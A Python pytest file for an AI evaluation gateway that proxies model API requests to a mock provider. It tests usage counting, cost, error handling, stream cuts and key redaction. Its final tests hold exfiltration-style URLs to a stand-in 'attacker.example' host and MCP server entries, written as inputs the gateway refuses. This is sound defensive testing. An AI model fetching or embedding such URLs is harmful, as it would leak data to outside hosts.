"""Real models, against a server on the loopback that plays the provider."""

from __future__ import annotations

import http.client
import json
import socket
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from decimal import Decimal
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from gateway_client import PLACEHOLDER, Answered, chat, messages, request, responses

from boxeval.gateway import upstream as upstream_module
from boxeval.gateway.interface import Usage
from boxeval.gateway.keyring import Keyring, Secret
from boxeval.gateway.names import Names
from boxeval.gateway.prices import cost_usd
from boxeval.gateway.redact import NONE, Redactor
from boxeval.gateway.server import Gateway, Route
from boxeval.gateway.sources import Sources
from boxeval.spec.models import PlannedUpstream, Pricing
from provider import Provider, answers, fails, provider, send

KEY = "sk-canary-0123456789"
PRICE = Pricing(input=2, output=8, cache_read=0.5)
NAME = "big-model"


@contextmanager
def reached(
    playing: Provider, redact: Redactor | None = None, **changes: Any
) -> Iterator[tuple[Gateway, Route]]:
    """A gateway with one route to the provider's model."""
    keyring = Keyring({"KEY": Secret(KEY, playing.url)}, {})
    keyring.get("KEY")
    place = {"base_url": playing.url, "model": NAME, "key": "KEY", "pricing": PRICE, **changes}
    sources = Sources(keyring, redactor=keyring.redactor() if redact is None else redact)
    with tempfile.TemporaryDirectory() as directory, Gateway(Path(directory) / "s", sources) as gateway:
        yield gateway, gateway.open_route(PlannedUpstream(**place), Names(NAME, background=("*mini*",)))


ASK = {"chat": chat, "responses": responses, "messages": messages}


@pytest.mark.contract("G50", "S21")
@pytest.mark.parametrize("wire", ASK)
@pytest.mark.parametrize("stream", [False, True])
def test_an_answer_comes_through_as_it_is_and_is_counted(wire: str, stream: bool) -> None:
    with provider(answers()) as playing, reached(playing) as (gateway, route):
        answered = ASK[wire](gateway.socket_path, route.path, model=NAME, stream=stream)
        assert answered.status == 200
        assert b"From afar." in answered.body
        ((path, headers, body),) = playing.asked
        closed = gateway.close_route(route.token)
    assert path.startswith("/v1/")
    assert body["model"] == NAME
    assert PLACEHOLDER not in str(headers)
    if wire == "messages":
        assert (headers["x-api-key"], headers["anthropic-version"]) == (KEY, "2023-06-01")
    else:
        assert headers["authorization"] == f"Bearer {KEY}"
    traffic = closed.traffic
    assert (traffic.requests, traffic.unmeasured_requests, traffic.silent_ms) == (1, 0, 0)
    assert (traffic.input_tokens, traffic.output_tokens, traffic.cache_read_tokens) == (1000, 100, 400)
    # 600 x 2 + 400 x 0.5 + 100 x 8, in dollars for a million
    assert traffic.cost_usd == 0.0022
    (line,) = closed.log.splitlines()
    assert "From afar." in json.loads(line)["response"]
    assert KEY.encode() not in closed.log


def test_a_stream_of_chat_is_asked_for_its_usage_and_shows_it_only_to_who_wants_it() -> None:
    with provider(answers()) as playing, reached(playing) as (gateway, route):
        plain = chat(gateway.socket_path, route.path, model=NAME, stream=True).body
        asked = chat(
            gateway.socket_path, route.path, model=NAME, stream=True, stream_options={"include_usage": True}
        ).body
        assert [body["stream_options"] for _, _, body in playing.asked] == [{"include_usage": True}] * 2
        traffic = gateway.close_route(route.token).traffic
    assert b"prompt_tokens" not in plain and plain.endswith(b"data: [DONE]\n\n")
    assert asked.count(b'prompt_tokens"') == 1
    assert traffic.input_tokens == 2000


def test_a_background_request_asks_the_same_model_and_counts_apart() -> None:
    with provider(answers()) as playing, reached(playing) as (gateway, route):
        assert responses(gateway.socket_path, route.path, model="some-mini-model").status == 200
        assert playing.asked[0][2]["model"] == NAME
        traffic = gateway.close_route(route.token).traffic
    assert (traffic.requests, traffic.background_requests, traffic.input_tokens) == (0, 1, 1000)
    assert traffic.cost_usd == 0.0022


@pytest.mark.contract("V15")
def test_without_a_price_the_cost_is_unknown() -> None:
    with provider(answers()) as playing, reached(playing, pricing=None) as (gateway, route):
        chat(gateway.socket_path, route.path, model=NAME)
        assert gateway.close_route(route.token).traffic.cost_usd is None
    assert cost_usd(None, Usage(1, 1)) is None
    assert cost_usd(Pricing(input=3, output=15), Usage(100, 10, 50, 20)) == Decimal("0.00045")


@pytest.mark.parametrize(
    ("status", "told", "code", "excuses"),
    [
        (400, 400, "provider_code", False),
        (413, 413, "provider_code", False),
        (401, 502, "provider_refused_key", True),
        (403, 502, "provider_refused_key", True),
        (404, 404, "provider_code", True),
        (429, 429, "provider_code", True),
        (500, 500, "provider_code", True),
        (529, 529, "provider_code", True),
        (307, 502, "provider_code", True),
    ],
)
def test_an_error_of_the_provider_is_told_by_whose_fault_it_is(
    status: int, told: int, code: str, excuses: bool
) -> None:
    with provider(fails(status, f"not with {KEY}")) as playing, reached(playing) as (gateway, route):
        answered = chat(gateway.socket_path, route.path, model=NAME)
        assert (answered.status, answered.code) == (told, code)
        closed = gateway.close_route(route.token)
        assert len(playing.asked) == 1  # nothing is tried twice
    assert closed.traffic.failed_before_first_turn is excuses
    assert closed.traffic.requests == 0
    assert KEY not in answered.body.decode()
    assert KEY not in closed.log.decode() + str(closed.traffic)


def test_a_protocol_that_the_provider_does_not_speak_is_refused_and_not_translated() -> None:
    keyring = Keyring({"KEY": Secret(KEY, "https://api.openai.com/v1")}, {})
    place = PlannedUpstream(base_url="https://api.openai.com/v1", model=NAME, key="KEY")
    with (
        tempfile.TemporaryDirectory() as directory,
        Gateway(Path(directory) / "s", Sources(keyring)) as gateway,
    ):
        route = gateway.open_route(place)
        answered = messages(gateway.socket_path, route.path, model=NAME)
        assert answered.status == 404
        assert "speaks chat, responses only" in answered.json["error"]["message"]


def test_a_provider_that_is_not_there_is_an_error_of_the_models_side() -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{taken.getsockname()[1]}/v1"
        with reached(Provider(url, answers())) as (gateway, route):
            answered = chat(gateway.socket_path, route.path, model=NAME)
            assert (answered.status, answered.code) == (502, "provider_unreachable")
            assert gateway.close_route(route.token).traffic.failed_before_first_turn


def half(handler: BaseHTTPRequestHandler, _: dict[str, Any]) -> None:
    """Begins a stream and hangs up."""
    handler.send_response(200)
    handler.send_header("Content-Type", "text/event-stream")
    handler.end_headers()
    start = {
        "type": "message_start",
        "message": {"id": "m", "usage": {"input_tokens": 70, "output_tokens": 1}},
    }
    handler.wfile.write(b"event: message_start\ndata: " + json.dumps(start).encode() + b"\n\n")


@pytest.mark.contract("S21")
def test_what_a_cut_stream_told_is_kept_as_a_lower_bound() -> None:
    with provider(half) as playing, reached(playing) as (gateway, route):
        body = messages(gateway.socket_path, route.path, model=NAME, stream=True).body
        assert body.startswith(b"event: message_start")
        traffic = gateway.close_route(route.token).traffic
    assert (traffic.requests, traffic.unmeasured_requests) == (1, 1)
    assert (traffic.input_tokens, traffic.output_tokens) == (70, 1)
    assert traffic.cost_usd is None


def test_a_body_that_ends_early_is_cut_for_the_candidate_too() -> None:
    def act(handler: BaseHTTPRequestHandler, _: dict[str, Any]) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", "1000")
        handler.end_headers()
        handler.wfile.write(b'{"id": ')

    with provider(act) as playing, reached(playing) as (gateway, route):
        with pytest.raises((http.client.HTTPException, OSError)):
            chat(gateway.socket_path, route.path, model=NAME)
        traffic = gateway.close_route(route.token).traffic
    assert traffic.error is not None and "provider_cut" in traffic.error


class Slow:
    """Begins to answer, or does not even do that, and then waits to be let go."""

    def __init__(self, begins: bool) -> None:
        self.begins, self.go, self.is_cut = begins, threading.Event(), threading.Event()

    def __call__(self, handler: BaseHTTPRequestHandler, data: dict[str, Any]) -> None:
        if self.begins:
            half(handler, data)
            handler.wfile.flush()
        deadline = time.monotonic() + 10
        handler.connection.settimeout(0.05)
        while time.monotonic() < deadline and not self.go.is_set():
            try:
                if not handler.connection.recv(1):
                    self.is_cut.set()
                    return
            except TimeoutError:
                continue
            except OSError:
                self.is_cut.set()
                return


@pytest.mark.contract("P17", "V13")
@pytest.mark.parametrize("begins", [False, True])
def test_a_request_in_flight_when_the_turn_ends_is_cut_at_the_provider(begins: bool) -> None:
    slow = Slow(begins)
    with provider(slow) as playing, reached(playing) as (gateway, route):
        got: list[Answered | Exception] = []

        def ask() -> None:
            try:
                got.append(messages(gateway.socket_path, route.path, model=NAME, stream=True))
            except (http.client.HTTPException, OSError) as error:
                got.append(error)

        asking = threading.Thread(target=ask)
        asking.start()
        deadline = time.monotonic() + 5
        while not playing.asked and time.monotonic() < deadline:
            time.sleep(0.01)
        time.sleep(0.2)
        gateway.pause_route(route.token)
        assert slow.is_cut.wait(3)
        asking.join(5)
        assert not asking.is_alive()
        closed = gateway.close_route(route.token)
        # The provider got it before the end and may bill it: it is told, with a cost that nobody knows.
        assert (closed.traffic.requests, closed.traffic.unmeasured_requests) == (1, 1)
        assert closed.traffic.cost_usd is None
        assert 150 <= closed.traffic.silent_ms < 10_000
        assert chat(gateway.socket_path, route.path, model=NAME).status == 410
        assert len(playing.asked) == 1


def test_a_client_that_leaves_takes_its_request_with_it() -> None:
    slow = Slow(begins=True)
    with provider(slow) as playing, reached(playing) as (gateway, route):
        body = json.dumps({"model": NAME, "stream": True, "messages": [{"role": "user", "content": "hi"}]})
        head = (
            f"POST {route.path}/messages HTTP/1.1\r\nHost: a\r\nx-api-key: {PLACEHOLDER}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n"
        )
        with socket.socket(socket.AF_UNIX) as peer:
            peer.settimeout(10)
            peer.connect(str(gateway.socket_path))
            peer.sendall((head + body).encode())
            got = b""
            while b"message_start" not in got:
                piece = peer.recv(65_536)
                assert piece
                got += piece
        # Only the next piece tells the gateway that nobody listens; the end of the turn does so at the latest.
        gateway.pause_route(route.token)
        assert slow.is_cut.wait(3)


def test_waits_have_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(upstream_module, "FIRST_S", 0.2)
    monkeypatch.setattr(upstream_module, "NEXT_S", 0.2)
    with provider(Slow(begins=False)) as playing, reached(playing) as (gateway, route):
        answered = messages(gateway.socket_path, route.path, model=NAME)
        assert answered.status == 502
        playing.act = Slow(begins=True)
        with pytest.raises(http.client.IncompleteRead):
            messages(gateway.socket_path, route.path, model=NAME, stream=True)


def echo(handler: BaseHTTPRequestHandler, _: dict[str, Any]) -> None:
    """A provider that tells what it was sent, in pieces that cut the key in two."""
    key = handler.headers["Authorization"].removeprefix("Bearer ")
    text = json.dumps({"object": "chat.completion", "choices": [{"message": {"content": key}}]}).encode()
    middle = text.index(key.encode()) + 5
    send(handler, 200, "application/json", text[:middle], text[middle:])


@pytest.mark.contract("P21", "G50")
@pytest.mark.parametrize("is_redacted", [True, False])
def test_a_key_that_a_provider_gives_away_does_not_reach_the_candidate(is_redacted: bool) -> None:
    """With the redaction taken away it does: that is the positive control."""
    with provider(echo) as playing, reached(playing, None if is_redacted else NONE) as (gateway, route):
        body = request(
            gateway.socket_path,
            f"{route.path}/chat/completions",
            json.dumps({"model": NAME, "messages": [{"role": "user", "content": "hi"}]}).encode(),
        ).body
        log = gateway.close_route(route.token).log
    assert (KEY.encode() not in body) is is_redacted
    assert (KEY.encode() not in log) is is_redacted


HOSTED: dict[str, list[dict[str, Any]]] = {
    "chat": [{"type": "web_search"}],
    "responses": [
        {"type": "web_search"},
        {"type": "mcp", "server_label": "x", "server_url": "https://attacker.example"},
        {"type": "code_interpreter", "container": {"type": "auto"}},
        {"type": "shell", "environment": {"type": "container_auto"}},
        {"type": "invented_later"},
    ],
    "messages": [{"type": "web_search_20250305", "name": "w"}, {"type": "web_fetch_20250910", "name": "f"}],
}
OWN: dict[str, list[dict[str, Any]]] = {
    "chat": [{"type": "function", "function": {"name": "bash"}}],
    "responses": [{"type": "function", "name": "sh"}, {"type": "custom", "name": "p"}, {"type": "shell"}],
    "messages": [{"name": "Bash", "input_schema": {}}, {"type": "bash_20250124", "name": "bash"}],
}
FETCHED: dict[str, dict[str, Any]] = {
    "chat": {"type": "image_url", "image_url": {"url": "https://attacker.example/?what=it+saw"}},
    "responses": {"type": "input_file", "file_url": "https://attacker.example/"},
    "messages": {"type": "image", "source": {"type": "url", "url": "https://attacker.example/"}},
}


@pytest.mark.parametrize("wire", ASK)
def test_a_provider_searches_fetches_and_runs_nothing_for_a_candidate(wire: str) -> None:
    spaced = {"type": "namespace", "name": "n", "tools": [*OWN[wire], *HOSTED[wire]]}
    keys = {
        "web_search_options": {},
        "mcp_servers": [{"url": "https://attacker.example"}],
        "prompt": {"id": "x"},
    }
    with provider(answers()) as playing, reached(playing) as (gateway, route):
        ASK[wire](
            gateway.socket_path, route.path, model=NAME, tools=[*OWN[wire], *HOSTED[wire], spaced], **keys
        )
        ASK[wire](gateway.socket_path, route.path, model=NAME, tools=HOSTED[wire], tool_choice="auto")
        (_, _, first), (_, _, second) = playing.asked
        log = gateway.close_route(route.token).log
    assert first["tools"] == [*OWN[wire], {**spaced, "tools": OWN[wire]}]
    assert not first.keys() & keys.keys()
    assert not second.keys() & {"tools", "tool_choice"}
    kinds = [tool["type"] for tool in HOSTED[wire]]
    assert json.loads(log.splitlines()[1])["withheld"] == kinds


@pytest.mark.parametrize("wire", ASK)
def test_a_provider_is_not_sent_to_a_place_and_may_have_the_content(wire: str) -> None:
    field = "input" if wire == "responses" else "messages"

    def asking(part: dict[str, Any]) -> Any:
        content = [
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "c", "content": [part]}]}
        ]
        return ASK[wire](gateway.socket_path, route.path, model=NAME, **{field: content})

    inside = json.loads(
        json.dumps(FETCHED[wire]).replace("https://attacker.example/", "data:image/png;base64,AA==")
    )
    with provider(answers()) as playing, reached(playing) as (gateway, route):
        refused = asking(FETCHED[wire])
        assert (refused.status, b"hosted_refused" in refused.body, playing.asked) == (400, True, [])
        assert (
            asking(inside if wire != "messages" else {"type": "text", "text": "https://x.example"}).status
            == 200
        )
        # What a tool is called with is no place to fetch from.
        call = {"type": "tool_use", "id": "c", "name": "n", "input": FETCHED[wire]}
        if wire == "messages":
            assert asking(call).status == 200
